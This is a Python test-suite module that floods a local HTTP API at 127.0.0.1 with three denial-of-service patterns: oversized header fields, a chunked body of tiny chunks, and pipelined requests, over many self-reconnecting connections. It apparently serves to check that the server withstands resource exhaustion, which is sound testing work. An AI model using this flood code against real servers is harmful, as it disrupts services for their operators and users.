"""A process that floods a head's HTTP API: ``python -m tests.attacks.http_flood PORT KIND COUNT
SECONDS``. It says so once it has COUNT connections."""

from __future__ import annotations

import sys
from typing import Final

import trio

KINDS: Final = ("fields", "chunks", "pipelined")


def attack(kind: str, port: int) -> bytes:
    """What each connection sends, again and again."""
    host = b"Host: 127.0.0.1:%d\r\n" % port
    match kind:
        case "fields":
            return b"GET /v1/models HTTP/1.1\r\n" + host + 3200 * b"a:\r\n" + b"\r\n"
        case "chunks":
            head = b"POST /v1/chat/completions HTTP/1.1\r\n" + host
            kinds = b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
            return head + kinds + 40_000 * b"1\r\n \r\n"
        case "pipelined":
            return 300 * (b"GET /health HTTP/1.1\r\n" + host + b"\r\n")
        case _:
            raise ValueError(f"no kind '{kind}'; there are {', '.join(KINDS)}")


async def client(port: int, said: bytes, stream: trio.SocketStream) -> None:
    """Send *said* for ever to *stream*, and on a new connection whenever the server ends one."""
    while True:
        try:
            async with stream, trio.open_nursery() as nursery:
                nursery.start_soon(_read, stream, nursery.cancel_scope)
                while True:
                    await stream.send_all(said)
        except* trio.BrokenResourceError:
            pass
        stream = await trio.open_tcp_stream("127.0.0.1", port)


async def _read(stream: trio.SocketStream, scope: trio.CancelScope) -> None:
    while await stream.receive_some(1 << 16):
        pass
    scope.cancel()


async def main(port: int, kind: str, count: int, seconds: float) -> None:
    said = attack(kind, port)
    streams = [await trio.open_tcp_stream("127.0.0.1", port) for _ in range(count)]
    print("flooding", flush=True)
    with trio.move_on_after(seconds):
        async with trio.open_nursery() as nursery:
            for stream in streams:
                nursery.start_soon(client, port, said, stream)


if __name__ == "__main__":
    trio.run(main, int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
